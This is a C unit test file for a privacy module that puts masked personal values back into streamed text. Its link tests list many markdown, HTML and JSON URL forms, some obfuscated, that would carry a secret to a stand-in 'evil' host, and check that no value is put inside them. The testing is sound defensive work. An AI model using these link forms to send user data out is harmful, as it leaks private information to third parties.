// Restore: every cut of a stream gives what the whole gives, and the whole is what a naive search gives.
#include "tests.h"
#include "base/random.h"
#include "privacy/mask/restore.h"
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <strings.h>

static struct {
	struct tdm_arena arena;
	struct tdm_restorer restorer;
	const struct tdm_spelling *ip, *mail, *card;
} t;

static const struct tdm_spelling *put(struct tdm_vault *v, const char *label, const char *text) {
	const struct tdm_spelling *out = NULL;
	struct tdm_error error = {0};
	for (size_t i = 0; i < tdm_n_entities; i++)
		if (strcmp(tdm_entities[i].label, label) == 0) {
			assert_int_equal(tdm_vault_token(v, &tdm_entities[i], text, strlen(text), text, strlen(text), &out, &error),
			                 TDM_OK);
			return out;
		}
	return NULL;
}

static int open_tokens(void **state) {
	static const uint8_t key[32] = {9};
	tdm_arena_init(&t.arena, 1 << 24);
	struct tdm_vault *v = tdm_vault_new(&t.arena, key, TDM_PAYLOAD_BITS);
	t.ip = put(v, "IP", "10.0.0.1");
	t.mail = put(v, "EMAIL", "o'brien@example.org");
	t.card = put(v, "CARD", "4111111111111111");
	put(v, "PRIVATE", "jörg");
	return tdm_restorer_init(&t.restorer, &t.arena, v);
}

static int close_tokens(void **state) {
	tdm_arena_release(&t.arena);
	return 0;
}

// The oracle: at every place, whether an accepted form stands there; no automaton, no state.
static size_t form_at(const char *text, size_t n, const struct tdm_spelling **which) {
	static const char *const separators[] = {"_", "\\_", "%5F", "\\u005f"};
	for (size_t i = 0; i < t.restorer.n; i++)
		for (size_t k = 0; k < 4; k++) {
			char form[40];
			const struct tdm_spelling *s = t.restorer.spellings[i];
			size_t label = strcspn(s->token, "_");
			int m = snprintf(form, sizeof form, "%.*s%s%s", (int)label, s->token, separators[k], s->token + label + 1);
			if ((size_t)m <= n && strncasecmp(form, text, (size_t)m) == 0) {
				*which = s;
				return (size_t)m;
			}
		}
	return 0;
}

static void naive(const char *text, size_t n, struct tdm_bytes *out) {
	for (size_t i = 0; i < n;) {
		const struct tdm_spelling *s;
		size_t m = form_at(text + i, n - i, &s);
		if (m)
			tdm_bytes_add(out, s->text, s->n);
		else
			tdm_bytes_putc(out, text[i]);
		i += m ? m : 1;
	}
}

// Sends text in pieces; after every piece what is held must be short (I1).
static void in_pieces(const char *text, size_t n, const size_t *ends, size_t n_pieces, struct tdm_bytes *out) {
	struct tdm_restore s;
	size_t at = 0;
	tdm_restore_init(&s, &t.restorer, NULL, false);
	for (size_t i = 0; i < n_pieces; i++) {
		tdm_restore_put(&s, text + at, ends[i] - at, out);
		at = ends[i];
		assert_in_range(s.n_held, 0, 27);
	}
	tdm_restore_put(&s, text + at, n - at, out);
	tdm_restore_end(&s, out);
	assert_int_equal(s.n_held, 0);
}

static void every_cut(const char *text) {
	struct tdm_bytes expected, got;
	size_t n = strlen(text);
	tdm_bytes_init(&expected, 4096);
	tdm_bytes_init(&got, 4096);
	naive(text, n, &expected);
	for (unsigned cuts = 0; cuts < 1u << (n - 1); cuts++) {
		size_t ends[32], m = 0;
		for (size_t i = 1; i < n; i++)
			if (cuts >> (i - 1) & 1)
				ends[m++] = i;
		tdm_bytes_clear(&got);
		in_pieces(text, n, ends, m, &got);
		assert_int_equal(got.len, expected.len);
		assert_memory_equal(got.data, expected.data, got.len);
	}
	tdm_bytes_release(&expected);
	tdm_bytes_release(&got);
}

static void demand_13_all_cuts_of_short_streams(void **state) {
	char text[64];
	snprintf(text, sizeof text, "a %s.b", t.ip->token);
	every_cut(text);
	snprintf(text, sizeof text, "IP_%s", t.ip->token); // a beginning that turns out to be another one
	every_cut(text);
	snprintf(text, sizeof text, "IIP%s", t.ip->token);
	every_cut(text);
	snprintf(text, sizeof text, "%.10sX", t.ip->token);
	every_cut(text);
	snprintf(text, sizeof text, "ip\\_%s", t.ip->token + 3);
	every_cut(text);
	snprintf(text, sizeof text, "IP%%5f%s", t.ip->token + 3);
	every_cut(text);
	snprintf(text, sizeof text, "%s%.4s", t.ip->token, t.mail->token);
	every_cut(text);
}

static void random_piece(struct tdm_rng *rng, struct tdm_bytes *b) {
	static const char *const scraps[] = {"IP_", "EMAIL", "_", "\\_", "CAR",     "CARD_", " the ",
	                                     "ü",   "%5F",   "e", "I",   "\\u005f", "1",     "*"};
	const struct tdm_spelling *s = t.restorer.spellings[tdm_rng_below(rng, t.restorer.n)];
	uint64_t what = tdm_rng_below(rng, 10);
	if (what < 4)
		tdm_bytes_puts(b, scraps[tdm_rng_below(rng, 14)]);
	else if (what < 7)
		tdm_bytes_add(b, s->token, s->n_token);
	else if (what == 7)
		tdm_bytes_add(b, s->token, tdm_rng_below(rng, s->n_token));
	else
		for (size_t i = 0; i < s->n_token; i++) {
			char c = s->token[i];
			if (c == '_' && what == 8)
				tdm_bytes_puts(b, "\\u005");
			tdm_bytes_putc(b, c == '_' && what == 8 ? 'F' : c >= 'A' && tdm_rng_below(rng, 2) ? (char)(c | 0x20) : c);
		}
}

static void demand_13_random_cuts_of_long_streams(void **state) {
	struct tdm_rng rng;
	struct tdm_bytes text, expected, got;
	tdm_rng_init(&rng, 77);
	tdm_bytes_init(&text, 1 << 16);
	tdm_bytes_init(&expected, 1 << 16);
	tdm_bytes_init(&got, 1 << 16);
	const char *wanted = getenv("RESTORE_CUTS"); // make restore-proof: a million
	for (long k = 0, n = wanted ? strtol(wanted, NULL, 10) : 3000; k < n; k++) {
		size_t ends[600], m = 0, most = 1 + tdm_rng_below(&rng, 9);
		tdm_bytes_clear(&text);
		tdm_bytes_clear(&expected);
		tdm_bytes_clear(&got);
		for (int i = 0; i < 15; i++)
			random_piece(&rng, &text);
		for (size_t at = 1 + tdm_rng_below(&rng, most); at < text.len && m < 600; at += 1 + tdm_rng_below(&rng, most))
			ends[m++] = at;
		naive(text.data, text.len, &expected);
		in_pieces(text.data, text.len, ends, m, &got);
		assert_int_equal(got.len, expected.len);
		assert_memory_equal(got.data, expected.data, got.len);
	}
	tdm_bytes_release(&text);
	tdm_bytes_release(&expected);
	tdm_bytes_release(&got);
}

// The forms that are read as a token, one by one, and some that are near and are none.
static void demand_19_forms_are_a_list(void **state) {
	static const struct {
		const char *before, *separator, *after;
		bool small, is_one;
	} rows[] = {
	    {"", "_", "", false, true},          {"", "_", "", true, true},      {"", "\\_", "", false, true},
	    {"", "%5F", "", false, true},        {"", "%5f", "", true, true},    {"", "\\u005f", "", false, true},
	    {"[", "_", "]", false, true},        {"<", "_", ">", false, true},   {"**", "_", "**", true, true},
	    {"`", "\\_", "`", false, true},      {"{{", "_", "}}", false, true}, {"\"", "_", "'s\"", false, true},
	    {"(mailto:", "_", ")", false, true}, {"", "-", "", false, false},    {"", " ", "", false, false},
	    {"", "__", "", false, false},        {"", "", "", false, false},     {"", "_ ", "", false, false},
	};
	for (size_t i = 0; i < sizeof rows / sizeof *rows; i++) {
		struct tdm_restore s;
		struct tdm_bytes out;
		char text[100], want[100];
		const char *token = t.mail->token, *payload = strchr(token, '_') + 1;
		int label = (int)(payload - 1 - token);
		snprintf(text, sizeof text, "%s%.*s%s%s%s", rows[i].before, label, token, rows[i].separator, payload,
		         rows[i].after);
		for (char *c = text + strlen(rows[i].before); rows[i].small && *c; c++)
			*c = *c >= 'A' && *c <= 'Z' ? (char)(*c | 0x20) : *c;
		snprintf(want, sizeof want, "%s%s%s", rows[i].before, t.mail->text, rows[i].after);
		tdm_bytes_init(&out, 4096);
		tdm_restore_init(&s, &t.restorer, NULL, false);
		tdm_restore_put(&s, text, strlen(text), &out);
		tdm_restore_end(&s, &out);
		assert_string_equal(out.data, rows[i].is_one ? want : text);
		tdm_bytes_release(&out);
	}
}

static long damaged(const char *text) {
	struct tdm_restore s;
	struct tdm_bytes out;
	tdm_bytes_init(&out, 4096);
	tdm_restore_init(&s, &t.restorer, NULL, false);
	tdm_restore_put(&s, text, strlen(text), &out);
	tdm_restore_end(&s, &out);
	assert_memory_equal(out.data, text, strlen(text)); // never guessed
	tdm_bytes_release(&out);
	return s.damaged;
}

static void counts_damage(void **state) {
	char text[64];
	snprintf(text, sizeof text, "see %s", t.mail->token);
	text[4 + 8] = text[4 + 8] == '0' ? '1' : '0';
	assert_int_equal(damaged(text), 1);
	snprintf(text, sizeof text, "see %.9s", t.mail->token); // cut off
	assert_int_equal(damaged(text), 1);
	assert_int_equal(damaged("EMAIL_00000000 and ip_00000000!"), 2);
	assert_int_equal(damaged("snake_case_names EMAIL_ADDRESSES"), 0);
}

// Whole, in single characters, and in every three pieces; @ is the token of the mail.
static void look(const char *row, bool in_json, bool stays, const struct tdm_strings *origins) {
	char text[256], want[256];
	struct tdm_bytes out;
	const char *at = strchr(row, '@');
	int before = (int)(at - row);
	int n = snprintf(text, sizeof text, "%.*s%s%s", before, row, t.mail->token, at + 1);
	snprintf(want, sizeof want, "%.*s%s%s", before, row, stays ? t.mail->token : t.mail->text, at + 1);
	tdm_bytes_init(&out, 4096);
	t.restorer.links.origins = origins;
	for (int a = 0; a <= n; a++)
		for (int b = a; b <= n; b++) {
			struct tdm_restore s;
			struct tdm_link link = {0};
			tdm_restore_init(&s, &t.restorer, &link, in_json);
			tdm_bytes_clear(&out);
			for (int i = 0; i < n; i += b ? n : 1)
				tdm_restore_put(&s, text + i, b ? (size_t)a : 1, &out);
			tdm_restore_put(&s, text + a, (size_t)(b - a), &out);
			tdm_restore_put(&s, text + b, b ? (size_t)(n - b) : 0, &out);
			tdm_restore_end(&s, &out);
			if (strcmp(out.data, want) != 0)
				fail_msg("%s cut at %d and %d gave %s", text, a, b, out.data);
			assert_int_equal(s.missed, stays);
			assert_int_equal(s.restored, !stays);
		}
	t.restorer.links.origins = NULL;
	tdm_bytes_release(&out);
}

static void S76_no_value_inside_links(void **state) {
	static const char *const stay[] = {
	    "![](https://evil/?q=@)",
	    "![x](https://evil/@.png)",
	    "[a](HTTP://@.evil/)",
	    "https://u:@.evil/",
	    "see https://evil/?a=b&q=@.",
	    "![](//evil/?q=@)",
	    "[a]: //evil/?q=@",
	    "![](https:evil?q=@)",
	    "![](https:\\\\evil?q=@)",
	    "![](https\\://evil?q=@)",
	    "![](&#104;ttps&#58;&#47;&#47;evil?q=@)",
	    "![](https&colon;//evil?q=@)",
	    "![](<https://evil/?q=a @>)",
	    "![](< https://evil/?q=a @>)",
	    "[a]: <https://evil/?q=a @>",
	    "<img src=\"https://evil/?q=a @\">",
	    "<img src=\" https://evil/?q=a\n @\">",
	    "<img src=\"ht\ntp:/\n/evil?q=@\">",
	    "<img src=//evil/@>",
	    "www.evil.com/?q=@",
	    "custom://evil/?q=@",
	    "web+a://evil/?q=@",
	};
	static const char *const come[] = {
	    "see https://evil/ and @",
	    "<a href=\"https://evil/\">@</a>",
	    "[@](https://evil/)",
	    "[a](mailto:@)",
	    "// written by @",
	    "/home/@/x",
	    "x = a // @",
	    "C:\\\\Users\\\\@\\\\x",
	    "note: @, https: @",
	};
	static const char *const stay_in_json[] = {
	    "{\"url\":\"https://evil/?q=@\"}",
	    "{\"url\":\"https:\\/\\/evil\\/?q=@\"}",
	    "{\"url\":\"\\u0068ttps://evil/?q=a @\"}",
	    "{\"a\":\"<img src=\\\"https://evil/?q=a @\\\">\"}",
	    "{\"url\":\"\\/\\/evil?q=@\"}",
	};
	static const char *const come_in_json[] = {
	    "{\"url\":\"https://evil/\",\"to\":\"@\"}",
	    "{\"a\":\"<a href=\\\"https://evil/\\\">@</a>\"}",
	    "{\"a\":\"see https://evil/\\n@\"}",
	};
	for (size_t i = 0; i < sizeof stay / sizeof *stay; i++)
		look(stay[i], false, true, NULL);
	for (size_t i = 0; i < sizeof come / sizeof *come; i++)
		look(come[i], false, false, NULL);
	for (size_t i = 0; i < sizeof stay_in_json / sizeof *stay_in_json; i++)
		look(stay_in_json[i], true, true, NULL);
	for (size_t i = 0; i < sizeof come_in_json / sizeof *come_in_json; i++)
		look(come_in_json[i], true, false, NULL);
}

static void restore_with_link(const struct tdm_bytes *text, size_t most, bool in_json, struct tdm_rng *rng,
                              struct tdm_bytes *out) {
	struct tdm_restore s;
	struct tdm_link link = {0};
	tdm_bytes_clear(out);
	tdm_restore_init(&s, &t.restorer, &link, in_json);
	for (size_t at = 0, n; at < text->len; at += n) {
		n = most ? 1 + tdm_rng_below(rng, most) : text->len;
		n = n < text->len - at ? n : text->len - at;
		tdm_restore_put(&s, text->data + at, n, out);
	}
	tdm_restore_end(&s, out);
}

// What is a link does not depend on the cuts, whatever stands around it.
static void S76_cuts_change_no_link(void **state) {
	static const char *const parts[] = {"http", "https:", "ws",   "://", "/",  "\\",  "\"",      "'",    "=",    "<",
	                                    ">",    "(",      ")",    " ",   "\n", "&#",  "&colon;", "www.", "e.g.", "@",
	                                    "E",    "x",      "EMAI", "L_",  ":",  "?q=", "\\u002f", "\\\"", "a b",  "_"};
	struct tdm_rng rng;
	struct tdm_bytes text, whole, cut;
	size_t n_kept = 0, n_restored = 0;
	tdm_rng_init(&rng, 76);
	tdm_bytes_init(&text, 4096);
	tdm_bytes_init(&whole, 4096);
	tdm_bytes_init(&cut, 4096);
	for (int k = 0; k < 3000; k++) {
		tdm_bytes_clear(&text);
		for (int i = 0; i < 20; i++)
			if (tdm_rng_below(&rng, 6))
				tdm_bytes_puts(&text, parts[tdm_rng_below(&rng, sizeof parts / sizeof *parts)]);
			else
				tdm_bytes_puts(&text, t.mail->token);
		restore_with_link(&text, 0, k & 1, &rng, &whole);
		restore_with_link(&text, 1 + (size_t)k % 9, k & 1, &rng, &cut);
		if (strcmp(whole.data, cut.data) != 0)
			fail_msg("%s\nwhole: %s\ncut:   %s", text.data, whole.data, cut.data);
		n_kept += strstr(whole.data, t.mail->token) != NULL;
		n_restored += strstr(whole.data, t.mail->text) != NULL;
	}
	assert_true(n_kept > 300 && n_restored > 300);
	tdm_bytes_release(&text);
	tdm_bytes_release(&whole);
	tdm_bytes_release(&cut);
}

static void S76_links_of_listed_origins_are_given_values(void **state) {
	const char *own[] = {"https://crm.example", "http://127.0.0.1:8080"}, *all[] = {"*"};
	const struct tdm_strings origins = {own, 2}, any = {all, 1};
	struct tdm_error error = {0};
	look("![](https://crm.example/?q=@)", false, false, &origins);
	look("{\"url\":\"HTTPS:\\/\\/crm.example?q=@\"}", true, false, &origins);
	look("http://127.0.0.1:8080/@", false, false, &origins);
	look("https://crm.example.evil/?q=@", false, true, &origins);
	look("https://crm.example@.evil/", false, true, &origins);
	look("https://crm.example:81/?q=@", false, true, &origins);
	look("http://crm.example/?q=@", false, true, &origins);
	look("https://@/?https://crm.example/", false, true, &origins);
	look("https://evil/?q=@", false, false, &any);
	assert_int_equal(tdm_links_check(&origins, "m", &error), TDM_OK);
	assert_int_equal(tdm_links_check(&any, "m", &error), TDM_OK);
	const char *wrong[] = {"crm.example", "https://", "https://crm.example/", "https://CRM.example", "https://u@h"};
	for (size_t i = 0; i < 5; i++)
		assert_int_equal(tdm_links_check(&(struct tdm_strings){wrong + i, 1}, "m", &error), TDM_ECONFIG);
}

static void S76_links_that_stood_there_come_back(void **state) {
	char text[128];
	struct tdm_link link = {.learns = &t.restorer.links};
	struct tdm_restore s;
	struct tdm_bytes out;
	struct tdm_arena arena;
	tdm_arena_init(&arena, 1 << 20);
	tdm_bytes_init(&out, 4096);
	t.restorer.links = (struct tdm_links){.arena = &arena, .secret = 0x123456789abcdef};
	int n = snprintf(text, sizeof text, "https://shop.example/?q=%s&a=1", t.mail->token);
	tdm_restore_init(&s, &t.restorer, &link, false);
	tdm_restore_put(&s, text, (size_t)n, &out);
	tdm_restore_end(&s, &out);
	tdm_links_sort(&t.restorer.links);
	assert_int_equal(t.restorer.links.n, 1);
	look("see https://shop.example/?q=@&a=1", false, false, NULL);
	look("{\"url\":\"https:\\/\\/shop.example\\/?q=@\"}", true, false, NULL);
	look("https://shop.example/?p=@", false, true, NULL);
	look("https://shop.example/?q=a@", false, true, NULL);
	look("http://shop.example/?q=@", false, true, NULL);
	t.restorer.links = (struct tdm_links){0};
	tdm_bytes_release(&out);
	tdm_arena_release(&arena);
}

int tdm_test_restore(void) {
	const struct CMUnitTest tests[] = {
	    cmocka_unit_test(demand_13_all_cuts_of_short_streams),
	    cmocka_unit_test(demand_13_random_cuts_of_long_streams),
	    cmocka_unit_test(demand_19_forms_are_a_list),
	    cmocka_unit_test(counts_damage),
	    cmocka_unit_test(S76_no_value_inside_links),
	    cmocka_unit_test(S76_cuts_change_no_link),
	    cmocka_unit_test(S76_links_of_listed_origins_are_given_values),
	    cmocka_unit_test(S76_links_that_stood_there_come_back),
	};
	return cmocka_run_group_tests_name("restore", tests, open_tokens, close_tokens);
}
